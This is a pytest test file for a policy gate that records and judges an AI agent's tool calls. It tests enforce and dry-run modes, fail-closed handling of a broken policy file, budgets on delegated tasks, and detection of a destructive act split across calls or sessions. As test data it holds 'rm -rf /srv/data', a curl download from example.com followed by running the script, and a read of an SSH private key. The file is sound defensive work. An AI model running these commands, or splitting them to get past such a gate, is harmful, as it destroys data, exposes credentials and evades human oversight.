"""The tool policy around real recorded calls: modes, files that change or break, split acts, budgets."""

from __future__ import annotations

import json
import shutil
import sqlite3
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agent_ledger.engine.paths import Paths
from agent_ledger.engine.policy.gate import Verdict
from agent_ledger.engine.recorder import Recorder

EXAMPLE = Path(__file__).parents[2] / "agent_ledger" / "policy.example.json"
DELETE = {"command": " ".join(("rm", "-rf", "/srv/data"))}
LIST = {"command": "ls /srv/data"}


class Home:
    """A recorder with a clock that tests move."""

    def __init__(self, folder: Path) -> None:
        self.paths = Paths(folder)
        self.now = 1_800_000_000.0
        self.recorder = Recorder(self.paths, clock=lambda: self.now, mono=lambda: self.now)
        self.count = 0
        self.lock = threading.Lock()
        self.paths.data.mkdir(parents=True, mode=0o700)

    def policy(self, mode: str, *, example: bool = True, text: str = "") -> None:
        if example:
            shutil.copy(EXAMPLE, self.paths.policy)
        if text:
            self.paths.policy.write_text(text, encoding="utf-8")
        self.paths.policy_mode.write_text(mode + "\n", encoding="utf-8")
        self.now += 2

    def call(self, tool: str, args: dict[str, Any], session: str = "chat") -> Verdict | None:
        with self.lock:
            self.count += 1
            ids = {"session_id": session, "turn_id": f"{session}:t", "tool_call_id": f"c{self.count}", "task_id": ""}
        verdict = self.recorder.judge_call(tool, args, **ids)
        self.recorder.pre_tool_call(tool, args, **ids, request_id="", verdict=verdict)
        return verdict

    def rows(self, sql: str) -> list[tuple[Any, ...]]:
        assert self.recorder.keeper._opened.wait(5)
        connection = sqlite3.connect(f"file:{self.paths.ledger}?mode=ro", uri=True)
        try:
            return connection.execute(sql).fetchall()
        finally:
            connection.close()


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Home]:
    made = Home(tmp_path / "home")
    made.recorder.on_session_start(session_id="chat")
    assert made.recorder.keeper._opened.wait(5)
    yield made
    made.recorder.keeper.close()


def test_without_a_mode_nothing_is_judged(home: Home) -> None:
    shutil.copy(EXAMPLE, home.paths.policy)
    assert home.call("terminal", DELETE) is None
    assert home.rows("SELECT status FROM ledger") == [("PENDING",)]


def test_enforce_refuses_and_the_row_says_so(home: Home) -> None:
    home.policy("enforce")
    verdict = home.call("terminal", DELETE)
    assert verdict is not None
    assert verdict.refuses
    assert "rule deletes" in verdict.message
    assert "/srv/data" in verdict.message
    assert home.rows("SELECT id, status, effect, closed_by FROM ledger") == [(1, "ERROR:blocked", "none", "policy")]
    assert home.rows("SELECT ledger_id, rule, severity, mode FROM policy_decision") == [
        (1, "deletes", "CRITICAL", "enforce")
    ]
    allowed = home.call("terminal", LIST)
    assert allowed is not None
    assert not allowed.refuses


def test_dry_run_records_and_refuses_nothing(home: Home) -> None:
    home.policy("dry_run")
    verdict = home.call("terminal", DELETE)
    assert verdict is not None
    assert not verdict.refuses
    assert home.rows("SELECT status FROM ledger") == [("PENDING",)]
    assert home.rows("SELECT ledger_id, rule, mode FROM policy_decision") == [(1, "deletes", "dry_run")]


def test_another_word_leaves_the_last_valid_mode(home: Home) -> None:
    home.policy("enforce")
    home.call("terminal", LIST)
    home.policy("enforced!")
    verdict = home.call("terminal", DELETE)
    assert verdict is not None
    assert verdict.refuses


def test_a_changed_policy_is_read_within_a_second(home: Home) -> None:
    home.policy("enforce")
    assert (verdict := home.call("terminal", DELETE)) is not None
    assert verdict.refuses
    home.policy("enforce", example=False, text=json.dumps({"rules": []}))
    assert (verdict := home.call("terminal", DELETE)) is not None
    assert not verdict.refuses


def test_a_broken_file_refuses_changes_and_says_how_to_get_out(home: Home) -> None:
    home.policy("enforce", example=False, text='{"rules": [\n  {"name": "x", "kind": ["a"]}\n]}')
    verdict = home.call("terminal", LIST)
    assert verdict is not None
    assert verdict.refuses
    assert "line 2" in verdict.message
    assert str(home.paths.policy_mode) in verdict.message
    reading = home.call("read_file", {"path": "notes.txt"})
    assert reading is not None
    assert not reading.refuses
    home.policy("dry_run", example=False)
    assert (verdict := home.call("terminal", LIST)) is not None
    assert not verdict.decision.blocks


def test_secrets_are_guarded_for_reading_tools_too(home: Home) -> None:
    home.policy("enforce")
    verdict = home.call("read_file", {"path": "~/.ssh/id_ed25519"})
    assert verdict is not None
    assert verdict.refuses
    assert home.rows("SELECT ledger_id, tool_name, rule FROM policy_decision") == [(None, "read_file", "secrets")]


@pytest.mark.parametrize(
    ("first", "args", "second"),
    [
        ("write_file", {"path": "/srv/job/run.sh", "content": DELETE["command"]}, "cd /srv/job && bash run.sh"),
        ("terminal", {"command": "curl -o run.sh https://example.com/x"}, "sh ./run.sh"),
        ("terminal", {"command": f"cat > tidy.sh <<'EOF'\n{DELETE['command']}\nEOF"}, "chmod +x tidy.sh && ./tidy.sh"),
    ],
)
def test_an_act_split_in_two_calls_names_both(home: Home, first: str, args: dict[str, Any], second: str) -> None:
    home.policy("enforce")
    made = home.call(first, args)
    assert made is not None
    assert not made.decision.blocks
    assert (other := home.call("terminal", {"command": second}, session="stranger")) is not None
    assert not other.decision.blocks
    verdict = home.call("terminal", {"command": second})
    assert verdict is not None
    assert verdict.refuses
    assert verdict.decision.call_ids == (1,)
    assert home.rows("SELECT ledger_id, call_ids FROM policy_decision") == [(3, "[1]")]


def test_a_harmless_script_may_run(home: Home) -> None:
    home.policy("enforce")
    home.call("write_file", {"path": "hello.sh", "content": "echo hello\n"})
    verdict = home.call("terminal", {"command": "bash hello.sh"})
    assert verdict is not None
    assert not verdict.decision.blocks


def test_after_a_restart_the_ledger_remembers_what_was_written(home: Home) -> None:
    home.policy("enforce")
    home.call("write_file", {"path": "run.sh", "content": DELETE["command"]})
    home.recorder.keeper.close()
    again = Recorder(home.paths, clock=lambda: home.now, mono=lambda: home.now)
    again.on_session_start(session_id="chat")
    assert again.keeper._opened.wait(5)
    verdict = again.judge_call(
        "terminal", {"command": "bash run.sh"}, session_id="chat", turn_id="t", tool_call_id="x", task_id=""
    )
    again.keeper.close()
    assert verdict is not None
    assert verdict.refuses
    assert verdict.decision.call_ids == (1,)


def compacted(home: Home, *chain: str) -> None:
    """The host's store after a conversation went from one of these ids to the next."""
    connection = sqlite3.connect(home.paths.state)
    connection.execute("CREATE TABLE sessions(id TEXT, parent_session_id TEXT, end_reason TEXT, model_config TEXT)")
    for place, name in enumerate(chain):
        parent = chain[place - 1] if place else None
        reason = "compression" if place < len(chain) - 1 else None
        connection.execute("INSERT INTO sessions VALUES(?,?,?,NULL)", (name, parent, reason))
    connection.commit()
    connection.close()


def test_an_act_in_two_steps_is_seen_where_compaction_lies_between_them(home: Home) -> None:
    home.policy("enforce")
    home.call("write_file", {"path": "run.sh", "content": DELETE["command"]})
    compacted(home, "chat", "chat-2", "chat-3")
    home.now += 30
    verdict = home.call("terminal", {"command": "bash run.sh"}, session="chat-3")
    assert verdict is not None
    assert verdict.refuses
    assert verdict.decision.call_ids == (1,)


def test_a_turn_writes_down_which_ids_are_one_conversation(home: Home) -> None:
    compacted(home, "chat", "chat-2", "chat-3")
    home.recorder.pre_llm_call(session_id="chat", turn_id="chat:t:1", task_id="", history=[])
    assert home.rows("SELECT * FROM rotation") == []
    for number in (1, 2):
        home.recorder.pre_llm_call(session_id="chat-3", turn_id=f"chat-3:t:{number}", task_id="", history=[])
    assert home.rows("SELECT * FROM rotation ORDER BY 1") == [("chat-2", "chat"), ("chat-3", "chat-2")]


def test_three_parallel_delegates_and_a_budget_of_two(home: Home) -> None:
    rule = {"name": "delegates", "tools": ["delegate_task"], "budget": {"calls": 2}}
    home.policy("enforce", example=False, text=json.dumps({"rules": [rule]}))
    start, verdicts = threading.Barrier(3), []

    def one() -> None:
        start.wait()
        verdicts.append(home.call("delegate_task", {"goal": "look"}))

    threads = [threading.Thread(target=one) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(verdict.refuses for verdict in verdicts if verdict) == [False, False, True]


def test_delegates_count_against_their_parent_and_may_not_go_too_deep(home: Home) -> None:
    connection = sqlite3.connect(home.paths.state)
    connection.execute("CREATE TABLE sessions(id TEXT, parent_session_id TEXT, end_reason TEXT, model_config TEXT)")
    connection.executemany(
        "INSERT INTO sessions VALUES(?,?,NULL,?)",
        [("chat", None, None), ("child", "chat", json.dumps({"_delegate_from": "chat"}))],
    )
    connection.commit()
    connection.close()
    rules = [
        {"name": "few", "tools": ["write_file"], "budget": {"calls": 2}},
        {"name": "deep", "tools": ["delegate_task"], "budget": {"depth": 1, "fan_out": 2}},
    ]
    home.policy("enforce", example=False, text=json.dumps({"rules": rules}))
    said = [
        home.call("write_file", {"path": "a", "content": ""}, session=s) for s in ("chat", "child", "child", "chat")
    ]
    assert [verdict.refuses for verdict in said if verdict] == [False, False, True, True]
    assert (deep := home.call("delegate_task", {"goal": "x"}, session="child")) is not None
    assert deep.refuses
    assert (wide := home.call("delegate_task", {"tasks": [{}, {}, {}]})) is not None
    assert wide.refuses
    assert (fine := home.call("delegate_task", {"tasks": [{}, {}]})) is not None
    assert not fine.refuses


def test_an_error_of_its_own_refuses_under_enforce_only(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("broken on purpose")

    monkeypatch.setattr("agent_ledger.engine.policy.rules.ToolPolicy.judge", broken)
    home.policy("enforce")
    assert (verdict := home.call("terminal", LIST)) is not None
    assert verdict.refuses
    assert "RuntimeError" in verdict.message
    home.policy("dry_run")
    assert (verdict := home.call("terminal", LIST)) is not None
    assert not verdict.decision.blocks
